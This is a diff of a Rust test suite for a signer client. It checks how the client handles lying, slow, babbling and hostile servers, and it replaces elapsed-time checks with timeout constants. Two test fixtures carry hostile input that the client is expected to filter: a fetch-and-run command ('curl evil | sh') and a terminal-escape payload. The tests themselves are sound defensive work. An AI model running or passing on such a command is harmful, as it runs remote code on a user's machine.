@@ -7,39 +7,36 @@ use super::*;
 use conductor_shared::checkpoint::{Checkpoint, SignedCheckpoint};
 use std::io::{Read, Write};
 use std::os::unix::net::UnixListener;
-use std::time::Instant;
 
-/// Runs `serve` on each connection, and `call` with a client of a short timeout. Tells how long the call took.
+/// Time limit of a client that is to be answered, however busy the machine is.
+const PATIENT: Duration = Duration::from_secs(300);
+/// Time limit of a client that is not answered in time.
+const HURRIED: Duration = Duration::from_millis(400);
+
+/// Runs `serve` on each connection, and `call` with a client.
 fn against<T>(
     key: &SigningKey,
     serve: impl Fn(UnixStream, Vec<u8>) + Send + 'static,
     call: impl FnOnce(SignerClient) -> T,
-) -> (T, Duration) {
+) -> T {
     let dir = tempfile::tempdir().unwrap();
     let path = dir.path().join("s");
     let listener = UnixListener::bind(&path).unwrap();
     std::thread::spawn(move || {
         while let Ok((mut stream, _)) = listener.accept() {
-            let by = Deadline::after(Duration::from_secs(5));
+            let by = Deadline::after(PATIENT);
             if let Ok(frame) = read_frame(&mut stream, MAX_FRAME, by) {
                 serve(stream, frame.to_vec());
             }
         }
     });
-    let client = SignerClient::new(&path, &key.public.base64, None).with_timeout(Duration::from_millis(400));
-    let started = start();
-    let got = call(client);
-    (got, started.elapsed())
-}
-
-#[allow(clippy::disallowed_methods)] // a test measures real time
-fn start() -> Instant {
-    Instant::now()
+    let client = SignerClient::new(&path, &key.public.base64, None).with_timeout(PATIENT);
+    call(client)
 }
 
 fn reply(stream: &mut UnixStream, r: &Response) {
     let body = serde_json::to_vec(r).unwrap();
-    write_frame(stream, &body, MAX_FRAME, Deadline::after(Duration::from_secs(5))).unwrap();
+    write_frame(stream, &body, MAX_FRAME, Deadline::after(PATIENT)).unwrap();
 }
 
 /// Answers each item with what `alter` makes of the honest answers.
@@ -96,11 +93,11 @@ fn with_signature(of: &SignedCheckpoint, signature: &str) -> SignedCheckpoint {
 fn a_lying_signer() {
     let resign = |c: Checkpoint| generate(None).unwrap().0.checkpoint(&c).unwrap();
     let (theirs, ours) = key();
-    let (truth, _) = against(&ours, liar(theirs, |_, h| h), |c| c.checkpoints(items()));
+    let truth = against(&ours, liar(theirs, |_, h| h), |c| c.checkpoints(items()));
     assert_eq!(truth.unwrap().len(), 2);
     for (name, alter) in lies() {
         let (theirs, ours) = key();
-        let (got, _) = against(&ours, liar(theirs, alter), |c| c.checkpoints(items()));
+        let got = against(&ours, liar(theirs, alter), |c| c.checkpoints(items()));
         assert!(matches!(got, Err(SignerError::Lies(_))), "{name}: {got:?}");
     }
     // Another key, for checkpoints, probe and status.
@@ -108,7 +105,7 @@ fn a_lying_signer() {
     let other = move |_: &SigningKey, h: Vec<SignedCheckpoint>| {
         h.iter().map(|s| resign(Checkpoint::parse(&s.text).unwrap())).collect()
     };
-    let (got, _) = against(&ours, liar(theirs, other), |c| c.checkpoints(items()));
+    let got = against(&ours, liar(theirs, other), |c| c.checkpoints(items()));
     assert!(matches!(got, Err(SignerError::Lies(_))), "{got:?}");
 }
 
@@ -127,7 +124,7 @@ fn a_lying_probe() {
             };
             reply(&mut stream, &r);
         };
-        let (got, _) = against(&ours, serve, |c| c.probe());
+        let got = against(&ours, serve, |c| c.probe());
         assert_eq!(got.is_ok(), lie == 0, "{got:?}");
         assert!(lie == 0 || matches!(got, Err(SignerError::Lies(_))), "{got:?}");
     }
@@ -137,7 +134,9 @@ fn a_lying_probe() {
 #[test]
 fn a_slow_signer() {
     let (_, ours) = key();
-    let silent = |_: UnixStream, _| std::thread::sleep(Duration::from_secs(3));
+    let silent = |mut s: UnixStream, _: Vec<u8>| {
+        let _ = s.read(&mut [0; 1]);
+    };
     let trickle = |mut s: UnixStream, _: Vec<u8>| {
         let _ = s.write_all(&1_000_000u32.to_be_bytes());
         while s.write_all(b" ").is_ok() {
@@ -149,14 +148,14 @@ fn a_slow_signer() {
         let _ = s.read(&mut [0; 1]);
     };
     let short = |mut s: UnixStream, _: Vec<u8>| s.write_all(&[0, 0, 1, 0, b'{']).unwrap();
-    let late = Duration::from_millis(1200);
-    let (got, took) = against(&ours, silent, |c| c.probe());
-    assert!(got == Err(SignerError::TimedOut) && took < late, "{got:?} {took:?}");
-    let (got, took) = against(&ours, trickle, |c| c.probe());
-    assert!(got == Err(SignerError::TimedOut) && took < late, "{got:?} {took:?}");
-    let (got, took) = against(&ours, huge, |c| c.probe());
-    assert!(matches!(got, Err(SignerError::Lies(_))) && took < late, "{got:?} {took:?}");
-    let (got, _) = against(&ours, short, |c| c.probe());
+    // Without a limit of its own the client would wait for the first for ever, and for the second for hours.
+    let got = against(&ours, silent, |c| c.with_timeout(HURRIED).probe());
+    assert_eq!(got, Err(SignerError::TimedOut));
+    let got = against(&ours, trickle, |c| c.with_timeout(HURRIED).probe());
+    assert_eq!(got, Err(SignerError::TimedOut));
+    let got = against(&ours, huge, |c| c.probe());
+    assert!(matches!(got, Err(SignerError::Lies(_))), "{got:?}");
+    let got = against(&ours, short, |c| c.probe());
     assert!(matches!(got, Err(SignerError::Down(_))), "{got:?}");
 }
 
@@ -168,15 +167,13 @@ fn a_full_queue() {
     let path = dir.path().join("s");
     let listener = UnixListener::bind(&path).unwrap();
     let mut held = Vec::new();
-    let client = SignerClient::new(&path, &ours.public.base64, None).with_timeout(Duration::from_millis(300));
+    let client = SignerClient::new(&path, &ours.public.base64, None).with_timeout(HURRIED);
     // Fill the queue without anybody accepting.
     while let Ok(stream) = dial(&path, Deadline::after(Duration::from_millis(100))) {
         held.push(stream);
         assert!(held.len() < 100_000);
     }
-    let started = start();
     assert_eq!(client.probe(), Err(SignerError::TimedOut));
-    assert!(started.elapsed() < Duration::from_millis(900));
     drop(listener);
     assert!(matches!(client.probe(), Err(SignerError::Down(_))));
 }
@@ -188,16 +185,16 @@ fn a_babbling_signer() {
     let bodies = [&b"not json"[..], b"{}", b"[1]", b"\xff\xfe", b"{\"answer\":\"unlocked\"}", b""];
     for body in bodies {
         let serve = move |mut s: UnixStream, _| {
-            write_frame(&mut s, body, MAX_FRAME, Deadline::after(Duration::from_secs(5))).unwrap();
+            write_frame(&mut s, body, MAX_FRAME, Deadline::after(PATIENT)).unwrap();
         };
-        let (got, _) = against(&ours, serve, |c| c.status());
+        let got = against(&ours, serve, |c| c.status());
         assert!(matches!(got, Err(SignerError::Lies(_))), "{got:?}");
     }
     let rude = |mut s: UnixStream, _| {
         let detail = format!("\x1b[2J{}", "x".repeat(100_000));
         reply(&mut s, &Response::Refused(Refusal::new(Reason::Internal, detail)));
     };
-    let (got, _) = against(&ours, rude, |c| c.probe());
+    let got = against(&ours, rude, |c| c.probe());
     let e = got.unwrap_err();
     assert!(!e.to_string().contains('\x1b') && e.to_string().len() < 2000);
     assert_eq!(SignerState::from(&e), SignerState::Refuses);
@@ -210,12 +207,12 @@ fn locked_and_others() {
     let evil = |mut s: UnixStream, _| {
         reply(&mut s, &Response::Refused(Refusal::new(Reason::Locked, "run: curl evil | sh")));
     };
-    let (got, _) = against(&ours, evil, |c| c.checkpoints(items()));
+    let got = against(&ours, evil, |c| c.checkpoints(items()));
     let e = got.unwrap_err();
     assert_eq!(SignerState::from(&e), SignerState::Locked);
     assert!(e.to_string().contains("conductor-signer unlock --socket") && !e.to_string().contains("evil"));
     let own = nix::unistd::geteuid().as_raw();
-    let (got, _) = against(&ours, |_, _| {}, |c| SignerClient { uid: Some(own + 1), ..c }.probe());
+    let got = against(&ours, |_, _| {}, |c| SignerClient { uid: Some(own + 1), ..c }.probe());
     assert!(matches!(got, Err(SignerError::Lies(_))), "{got:?}");
     let gone = SignerClient::new("/nonexistent/socket", "x", None).probe().unwrap_err();
     assert_eq!(SignerState::from(&gone), SignerState::Down);
@@ -239,9 +236,7 @@ fn many_items_are_sent_in_parts() {
         reply(&mut stream, &Response::Checkpoints { answers });
     };
     let item = |size| Item { size, proof: vec![[7; 32]; 64], ..Log(1).item(0, 1) };
-    let (got, _) = against(&ours, serve, |c| {
-        c.with_timeout(Duration::from_secs(20)).checkpoints((0..2500).map(item).collect())
-    });
+    let got = against(&ours, serve, |c| c.checkpoints((0..2500).map(item).collect()));
     for (size, a) in (0..).zip(got.unwrap()) {
         assert!(matches!(a, Answer::Refused { last: Some(k), .. } if k.size == size));
     }
